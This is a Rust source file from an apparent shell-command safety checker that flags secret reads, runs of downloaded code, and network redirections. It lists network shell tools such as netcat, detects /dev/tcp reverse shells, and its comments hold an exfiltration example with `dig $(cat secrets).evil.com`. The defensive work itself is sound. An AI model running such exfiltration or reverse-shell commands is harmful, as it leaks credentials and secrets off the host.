//! Checks that apply to every program whatever its rule says (secrets read or printed, code that
//! was downloaded) and to redirections (what a `>` writes, what a `<` reads).

use super::{Engine, NOT_READERS, PRINTERS, has_subscript_substitution, word_downloads};
use crate::policy::invocation::Invocation;
use crate::policy::parse::Redirect;
use crate::policy::paths;
use crate::policy::rules;
use crate::policy::verdict::Verdict;

/// Programs that send their arguments (host names, queries) over the network.
const NETWORK_PROGRAMS: &[&str] = &[
    "dig", "drill", "nslookup", "host", "whois", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr",
    "nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "git",
];

impl Engine<'_> {
    /// Checks every program gets whatever its rule says: secrets read or printed, downloaded code.
    pub(super) fn argument_checks(&self, inv: &Invocation) -> Verdict {
        let mut verdict = Verdict::SAFE;
        if !NOT_READERS.contains(&inv.name) {
            for word in inv.args {
                let text = word.text.as_str();
                // `--key=~/.ssh/id_rsa`, `@.env` (curl), `HEAD:.env` (git show).
                let candidates = [
                    Some(text),
                    text.split_once('=').map(|(_, v)| v),
                    text.strip_prefix('@'),
                    text.split_once(':').map(|(_, v)| v),
                ];
                let reaches =
                    |c: &&str| !c.is_empty() && (paths::secret(c) || (word.glob && paths::glob_may_reach_secret(c)));
                if let Some(path) = candidates.into_iter().flatten().find(reaches) {
                    verdict = verdict.max(Verdict::high(format!(
                        "reads a secret ({path}); its contents would be sent to the model provider"
                    )));
                }
            }
        }
        for var in inv.args.iter().flat_map(|w| w.vars.iter()) {
            if paths::secret_variable(var) {
                let printing = PRINTERS.contains(&inv.name);
                verdict = verdict.max(if printing {
                    Verdict::high(format!("prints the secret variable ${var}"))
                } else {
                    Verdict::medium(format!("uses the secret variable ${var}"))
                });
            }
        }
        if inv.name == "printenv"
            && let Some(name) = inv.texts().find(|t| paths::secret_variable(t))
        {
            verdict = verdict.max(Verdict::high(format!("prints the secret variable {name}")));
        }
        if rules::runs_code(inv.name) && inv.args.iter().any(|w| word_downloads(w, &self.downloaded_vars)) {
            verdict = verdict.max(Verdict::high("runs code downloaded from the network"));
        }
        if let Some(file) = inv.args.iter().find(|w| self.downloaded_files.contains(w.text.trim_start_matches("./")))
            && (rules::runs_code(inv.name) || inv.name == "chmod")
        {
            let what = if inv.name == "chmod" { "makes executable" } else { "runs" };
            verdict = verdict.max(Verdict::high(format!("{what} {}, which was just downloaded", file.text)));
        }
        if let Some(word) = inv.args.iter().find(|w| has_subscript_substitution(&w.text)) {
            verdict = verdict.max(Verdict::medium(format!(
                "an array subscript with a command substitution ({}) runs it when bash does arithmetic",
                word.text
            )));
        }
        // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
        let network = NETWORK_PROGRAMS.contains(&inv.name);
        if let Some(word) = inv.args.iter().find(|w| w.dynamic && (network || w.text.contains("://"))) {
            verdict = verdict.max(Verdict::medium(format!(
                "contacts an address built at run time ({}), which can carry data off the host",
                word.text
            )));
        }
        verdict
    }

    pub(super) fn redirect(&mut self, redirect: &Redirect, subject: &str, metadata_reader: bool, nesting: usize) {
        // Substitutions in a target or an unquoted here-document run before the command does.
        for word in redirect.target.iter().chain(redirect.heredoc.iter()) {
            for sub in &word.subs {
                self.script(sub, nesting);
            }
        }
        let Some(target) = redirect.target.as_ref() else {
            return;
        };
        let op = redirect.op.as_str();
        if op == "<<<" || op.starts_with("<<") {
            return;
        }
        let text = target.text.as_str();
        let subject = format!("{subject} ({op} {text})");
        if text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/") {
            self.add(
                &subject,
                &Verdict::high("opens a network connection through /dev/tcp (reverse shell or exfiltration)"),
            );
            return;
        }
        // `>&2`, `2>&1`, `<&3`, `>&-`: duplicating descriptors writes nothing.
        let is_fd = text == "-" || text.chars().all(|c| c.is_ascii_digit());
        if (op.ends_with('&') || op.starts_with(">&") || op.starts_with("<&")) && is_fd {
            return;
        }
        if redirect.is_input() {
            if !metadata_reader && paths::secret(text) {
                self.add(&subject, &Verdict::high("reads a secret; its contents would be sent to the model provider"));
            }
            return;
        }
        if matches!(text, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") || text.starts_with("/dev/fd/") {
            return;
        }
        self.add(&subject, &crate::policy::programs::write_target(target, "writes"));
    }
}
